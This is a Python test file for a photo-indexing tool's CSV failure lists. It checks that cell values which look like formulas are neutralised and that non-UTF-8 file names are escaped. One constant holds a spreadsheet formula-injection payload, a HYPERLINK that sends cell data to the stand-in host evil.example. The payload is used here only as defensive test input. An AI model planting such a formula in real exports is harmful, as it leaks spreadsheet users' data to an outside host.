"""Lists of what a run left out: read by programs, and opened by people in a spreadsheet."""

import csv
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cbir.commands import failures
from cbir.tables import like_a_formula
from cbir.types import Failure
from tests.conftest import Run

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"a.jpg")'
texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


def listed(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def harmless(text: str) -> str:
    return f"'{text}" if like_a_formula(text) else text


@given(some=st.lists(st.builds(Failure, texts, texts), min_size=1, max_size=5))
@example(some=[Failure(FORMULA, "it is not there"), Failure("a,b\n.jpg", '"quoted"')])
def test_a_list_has_all_that_failed_and_no_formula(
    some: list[Failure], tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("list") / "new/failures.csv"
    failures.write(path, some, keep=False)
    assert listed(path) == [["id", "reason"], *([*map(harmless, one)] for one in some)]
    assert failures.is_list(path)
    failures.write(path, [], keep=False)
    assert not path.exists()


def test_a_table_s_formula_does_not_come_out_of_it(photos: Path, run: Run) -> None:
    with open(photos / "t.csv", "w", newline="") as file:
        csv.writer(file).writerows([["picture"], ["a.jpg"], [FORMULA]])
    done = run("index", "--dataset", "t.csv", cwd=photos)
    assert done.returncode == 1
    (_, (id, reason)) = listed(photos / "failures.csv")
    assert id == f"'{FORMULA.replace('https://', 'https:/')}"
    assert reason == "it is not there"


def test_names_that_are_not_utf8_are_escaped(tmp_path: Path) -> None:
    failures.write(tmp_path / "f.csv", [Failure("caf\udce9.jpg", "a pipe")], keep=True)
    assert listed(tmp_path / "f.csv")[1] == ["caf\\udce9.jpg", "a pipe"]
